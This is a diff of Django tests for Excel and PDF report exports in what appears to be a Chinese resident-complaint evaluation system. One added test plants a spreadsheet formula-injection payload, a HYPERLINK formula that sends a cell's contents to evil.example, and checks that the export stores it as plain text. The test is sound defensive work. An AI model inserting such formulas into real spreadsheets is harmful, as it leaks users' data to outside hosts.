@@ -75,7 +75,8 @@ def test_metrics_table_exports_to_excel(week, cast) -> None:
     sheet = load_workbook(io.BytesIO(response.content)).active
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][:6] == ("承办单位", "收到诉求", "受理", "不予受理", "合并重复", "响应率（联系率）")
-    assert rows[1][0] == "合计" and rows[1][1] == "8" and rows[1][5] == "75.0%"
+    assert rows[1][0] == "合计" and rows[1][1] == 8 and rows[1][5] == 0.75  # numbers, not text
+    assert sheet["F2"].number_format == "0.0%" and sheet.freeze_panes == "A2"
     assert {r[0] for r in rows[2:]} == {"瓜州路社区居委会", "区城市管理行政执法局", "区住建局"}
 
 
@@ -116,8 +117,10 @@ def test_monthly_and_yearly_reports_as_pdf_and_excel(week, cast) -> None:
     assert b"STSong-Light" in pdf.content  # Chinese text is set in the built-in CJK font
     book = load_workbook(io.BytesIO(c.get("/evaluation/report/", {**YEAR, "format": "xlsx"}).content))
     summary = {r[0]: r[1:] for r in book["概要"].iter_rows(min_row=5, values_only=True)}
-    assert summary["收到诉求"] == ("8", "0") and summary["响应率（联系率）"] == ("75.0%", "—")
-    assert summary["综合得分"][0] == "74.00"
+    assert summary["收到诉求"] == (8, 0) and summary["响应率（联系率）"] == (0.75, "—")
+    formats = {r[0].value: r[1].number_format for r in book["概要"].iter_rows(min_row=5)}
+    assert summary["综合得分"][0] == pytest.approx(74.0) and formats["综合得分"] == "0.00"
+    assert formats["响应率（联系率）"] == "0.0%"
     assert [r[0] for r in book["按街道"].iter_rows(min_row=2, values_only=True)] == ["西湖街道"]
     assert book["走势"]._charts and book["综合得分图"]._charts  # native Excel charts
     trend = list(book["走势"].iter_rows(min_row=2, values_only=True))
@@ -134,3 +137,22 @@ def test_every_table_downloads_as_excel(week, cast, url) -> None:
     response = client_for(cast.duban).get(url, {**YEAR, "format": "xlsx"})
     book = load_workbook(io.BytesIO(response.content))
     assert book.worksheets and book.worksheets[0].max_row > 1
+
+
+def test_the_requests_export_never_writes_a_residents_text_as_a_formula(cast) -> None:
+    from django.utils import timezone
+
+    from minqing.conftest import settle
+
+    attack = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
+    cast.new_ticket(title=attack, text="3号楼前面的路灯坏了快一个月了。")
+    cast.new_ticket(title="-1+1 楼道灯", text="楼道灯坏了。")
+    settle()
+    today = timezone.localdate()
+    r = client_for(cast.duban).get("/evaluation/requests/", {"period": "month", "date": today.isoformat(),
+                                                             "fact": "received", "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(r.content)).active
+    titles = {c.value: c for c in sheet["C"][1:]}
+    assert set(titles) == {attack, "-1+1 楼道灯"}  # the text as the resident wrote it
+    assert all(c.data_type == "s" and c.quotePrefix for c in titles.values())  # text, never a formula
+    assert sheet["A2"].is_date and sheet.freeze_panes == "A2"
